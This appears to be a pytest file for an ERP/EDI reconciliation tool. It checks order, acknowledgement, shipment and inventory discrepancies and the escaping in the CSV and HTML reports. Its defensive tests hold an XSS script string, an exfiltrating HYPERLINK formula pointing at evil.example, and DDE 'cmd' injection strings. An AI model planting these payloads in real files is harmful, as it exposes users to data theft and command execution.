"""The reconciliation checks and the report, pure: records in, discrepancies (and bytes) out."""

from __future__ import annotations

import csv
import io
import re
from datetime import UTC, datetime, timedelta
from decimal import Decimal
from html.parser import HTMLParser

from erpbridge.ledger import Discrepancy, Owner, State
from erpbridge.reconcile import (
    InboundOrder,
    InventoryContext,
    JobResult,
    Remedies,
    SentDocument,
    Shipment,
    StockTable,
    check_acks,
    check_orders,
    check_shipments,
    compare,
    exit_status,
    inventory_discrepancies,
    report_csv,
    report_html,
)

NOW = datetime(2026, 3, 17, 2, 0, tzinfo=UTC)
R = Remedies("site/config.toml")
GRACE = timedelta(hours=1)


def order(po: str, state: State = State.ARCHIVED, **kw: object) -> InboundOrder:
    values: dict[str, object] = {
        "document_id": f"doc-{po}",
        "partner": "megamart",
        "po_number": po,
        "state": state,
        "received_at": NOW - timedelta(hours=5),
        "ack_sent": True,
        "erp": "s4",
        "erp_reference": "1234",
    }
    values.update(kw)
    return InboundOrder(**values)  # type: ignore[arg-type]


def test_orders() -> None:
    found = check_orders(
        [
            order("OK1"),
            order("OK2", erp=None, erp_reference=None),  # a folder target: nothing to read back
            order("YOUNG", State.VALIDATED, received_at=NOW - timedelta(minutes=10)),  # in flight
            order("GONE", erp_reference=None),
            order("NOACK", ack_sent=False),
            order("NO855", wants_855=True),
            order("WITH855", wants_855=True, order_ack_sent=True),
            order("REJ", State.REJECTED, ack_sent=True, erp_reference=None),
            order("QUAR", State.QUARANTINED, erp_reference=None),
            order("STUCK", State.MAPPED, erp_reference=None),
            order("DOWN", erp_reference=None, erp_error="HTTP 503"),
            order("DROP", State.DROPPED, erp_reference=None),
        ],
        now=NOW,
        grace=GRACE,
        remedies=R,
    )
    got = {(d.subject, d.check, d.owner) for d in found}
    assert got == {
        ("PO GONE", "not_in_erp", Owner.ERPBRIDGE),
        ("PO NOACK", "no_997", Owner.ERPBRIDGE),
        ("PO NO855", "no_855", Owner.ERP),
        ("PO REJ", "rejected", Owner.PARTNER),
        ("PO QUAR", "not_delivered", Owner.ERPBRIDGE),
        ("PO STUCK", "stuck", Owner.ERPBRIDGE),
        ("PO DOWN", "erp_unreadable", Owner.ERPBRIDGE),
    }
    by = {d.subject: d for d in found}
    assert by["PO GONE"].remedy == "erpbridge replay doc-GONE --key reconcile --config site/config.toml"
    assert by["PO QUAR"].remedy == "erpbridge dlq retry doc-QUAR --config site/config.toml"
    assert by["PO GONE"].sides == {"ledger": "archived", "s4": "no sales order"}
    assert all(d.job == "orders" and d.partner == "megamart" and d.document_id for d in found)


def sent(n: str, state: State, hours_ago: float, **kw: object) -> SentDocument:
    values: dict[str, object] = {
        "document_id": n,
        "partner": "megamart",
        "kind": "x12/856",
        "state": state,
        "isa13": "000000042",
        "business_key": None,
        "sent_at": NOW - timedelta(hours=hours_ago),
        "window": timedelta(hours=24),
    }
    values.update(kw)
    return SentDocument(**values)  # type: ignore[arg-type]


def test_acks() -> None:
    found = check_acks(
        [
            sent("in-window", State.SENT, 23),
            sent("late", State.SENT, 25),
            sent("overdue", State.ACK_OVERDUE, 30, business_key="SHP1"),
            sent("replayed", State.ACK_OVERDUE, 30, replayed=True),
            sent("rejected", State.REJECTED, 2, reasons="AK3 ..."),
            sent("acked", State.ACKNOWLEDGED, 40),
        ],
        now=NOW,
        remedies=R,
    )
    assert [(d.document_id, d.check, d.owner) for d in found] == [
        ("late", "no_997", Owner.PARTNER),
        ("overdue", "no_997", Owner.PARTNER),
        ("rejected", "rejected", Owner.ERPBRIDGE),
    ]
    assert found[0].remedy == "erpbridge replay late --key reconcile --config site/config.toml"
    assert found[1].subject == "x12/856 ISA13 000000042 (SHP1)"
    assert "late by 60 min" in found[0].sides["partner"]


def test_shipments() -> None:
    found = check_shipments(
        [
            Shipment(shipment_id="S1", partner="megamart", document_id="d1", asn_state=State.SENT),
            Shipment(
                shipment_id="S2", partner="megamart", document_id="d2", asn_state=None, failure="no SSCC"
            ),
            Shipment(shipment_id="S3", partner="megamart", document_id="d3", asn_state=State.DEAD_LETTERED),
            Shipment(
                shipment_id="S4", partner="megamart", document_id="d4", asn_state=State.ACKNOWLEDGED,
                wants_fulfillment=True, erp="netsuite", fulfilled=False,
            ),
            Shipment(
                shipment_id="S5", partner="megamart", document_id="d5", asn_state=State.ARCHIVED,
                wants_fulfillment=True, erp="netsuite", fulfilled=True,
            ),
            Shipment(shipment_id="S6", partner="megamart", document_id="d6", asn_state=State.WRITTEN),
        ],
        remedies=R,
    )  # fmt: skip
    assert [(d.subject, d.check, d.owner) for d in found] == [
        ("shipment S2", "no_856", Owner.WMS),
        ("shipment S3", "no_856", Owner.ERPBRIDGE),
        ("shipment S4", "no_fulfillment", Owner.ERP),
    ]
    assert "no SSCC" in found[0].action


def test_inventory_discrepancies() -> None:
    wms = StockTable.of([("A", "WH1", 10), ("B", "WH1", 5)])
    comparison = compare(
        wms,
        erp=StockTable.of([("A", "WH1", 12), ("B", "WH1", 5)]),
        sent={"megamart": StockTable.of([("A", "WH1", 10), ("B", "WH1", 1.5)])},
    )
    found = inventory_discrepancies(
        comparison,
        context=InventoryContext(erp="netsuite", erp_adjustable=True, sent={"megamart": "the 846 ISA13 7"}),
        remedies=R,
    )
    assert [(d.partner, d.subject, d.check, dict(d.sides), d.delta) for d in found] == [
        ("netsuite", "SKU A at WH1", "erp_on_hand", {"wms": "10", "netsuite": "12"}, 2.0),
        ("megamart", "SKU B at WH1", "846_on_hand", {"wms": "5", "846": "1.5"}, 3.5),
    ]
    assert "adjustment of -2 in netsuite" in found[0].action
    assert found[0].remedy == "erpbridge reconcile inventory --fix --config site/config.toml"
    assert found[0].owner == Owner.ERPBRIDGE
    sap = inventory_discrepancies(comparison, context=InventoryContext(erp="s4"), remedies=R)
    assert sap[0].owner == Owner.ERP and "the ERP team posts it" in sap[0].action


def _result(job: str, found: list[Discrepancy], threshold: int = 0, **kw: object) -> JobResult:
    return JobResult(
        job=job,
        discrepancies=found,
        threshold=threshold,
        started_at=NOW,
        finished_at=NOW,
        **kw,  # type: ignore[arg-type]
    )


HOSTILE = Discrepancy(
    job="orders",
    partner="<script>alert(1)</script>",
    subject='PO "7" & <b>',
    check="not_in_erp",
    sides={"ledger": "archived", "s4": "<none>"},
    owner=Owner.ERPBRIDGE,
    action="post it again, 'quoted'",
    remedy="erpbridge replay x --key reconcile --config 'a b.toml'",
    document_id="x",
)


def test_thresholds_and_exit_status() -> None:
    clean = _result("acks", [], checked={"megamart": 4})
    within = _result("orders", [HOSTILE], threshold=1, checked={"megamart": 3})
    over = _result("orders", [HOSTILE, HOSTILE], threshold=1)
    failed = _result("inventory", [], error="the ERP did not answer")
    assert clean.verdict == "clean" and clean.by_partner == {"megamart": 0}
    assert within.verdict == "within threshold" and within.over_threshold == {}
    assert over.verdict == "over threshold" and over.over_threshold == {HOSTILE.partner: 2}
    assert exit_status([clean, within]) == 0
    assert exit_status([clean, over]) == 1
    assert exit_status([over, failed]) == 2


class _Collect(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.text: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))

    def handle_data(self, data: str) -> None:
        self.text.append(data)


def test_report_csv_and_html() -> None:
    results = [
        _result("orders", [HOSTILE], checked={HOSTILE.partner: 1}),
        _result("acks", [], checked={"megamart": 2}),
        _result("inventory", [], error="no WMS snapshot"),
    ]
    table = list(csv.DictReader(io.StringIO(report_csv(results).decode("utf-8"))))
    assert table == [
        {
            "job": "orders",
            "partner": HOSTILE.partner,
            "subject": HOSTILE.subject,
            "check": "not_in_erp",
            "owner": "erpbridge",
            "sides": "ledger: archived | s4: <none>",
            "delta": "1",
            "action": HOSTILE.action,
            "remedy": HOSTILE.remedy,
            "document_id": "x",
        }
    ]
    page = report_html(results, generated_at=NOW, source="site/config.toml")
    parser = _Collect()
    parser.feed(page)
    tags = {t for t, _ in parser.tags}
    assert "script" not in tags and "<script>" not in page  # escaped, never markup
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in page
    assert "svg" in tags and "style" in tags
    # self-contained: no link, no src, no external URL anywhere but the SVG namespace
    assert not [
        a
        for _, attrs in parser.tags
        for k, a in attrs.items()
        if k in ("src", "href") and not (a or "").startswith("#")
    ]
    assert re.findall(r"https?://[^\"' ]+", page) == ["http://www.w3.org/2000/svg"]
    text = "".join(parser.text)
    assert "over threshold" in text and "no WMS snapshot" in text and HOSTILE.remedy in text


def test_report_csv_cells_from_data_are_not_spreadsheet_formulas() -> None:
    # a SKU from the WMS's item file opens the catalog job's action; a spreadsheet would run it
    formula = '=HYPERLINK("http://evil.example/?"&A1,"open")'
    hostile = Discrepancy(
        job="catalog",
        partner="netsuite",
        subject=f"SKU {formula}",
        check="sku_missing_in_erp",
        sides={"netsuite": "not listed", "wms": "listed"},
        owner=Owner.WMS,
        action=f"{formula} is in the WMS's item master but not an active item in netsuite",
        remedy=R.check("catalog"),
        delta=-2.5,
    )
    others = [f"{c}cmd|' /C calc'!A0" for c in "+-@\t\r"]
    rows = [hostile] + [
        Discrepancy(
            job="catalog",
            partner="netsuite",
            subject="SKU x",
            check="differs",
            sides={},
            owner=Owner.ERP,
            action=text,
            remedy=R.check("catalog"),
        )
        for text in others
    ]
    table = list(csv.DictReader(io.StringIO(report_csv([_result("catalog", rows)]).decode("utf-8"))))
    for row in table:
        assert not any(v[:1] in ("=", "+", "-", "@", "\t", "\r") for k, v in row.items() if k != "delta"), row
    assert table[0]["action"] == "'" + hostile.action  # shown as text, whole
    assert table[0]["delta"] == "-2.5"  # a number stays a number


def test_decimal_quantities_summed_in_floats_are_not_a_difference() -> None:
    # two bins of 0.1 and 0.2 (summed: 0.30000000000000004 in floats) against the ERP's 0.3
    wms = StockTable.of(
        [("A", "WH1", Decimal("0.1")), ("A", "WH1", Decimal("0.2")), ("B", "WH1", Decimal("1.001"))]
    )
    erp = StockTable.of([("A", "WH1", Decimal("0.3")), ("B", "WH1", Decimal("1.002"))])
    found = compare(wms, erp=erp)
    assert found.erp is not None
    assert list(found.erp.rows["sku"]) == ["B"]  # a real difference of 0.001 still counts
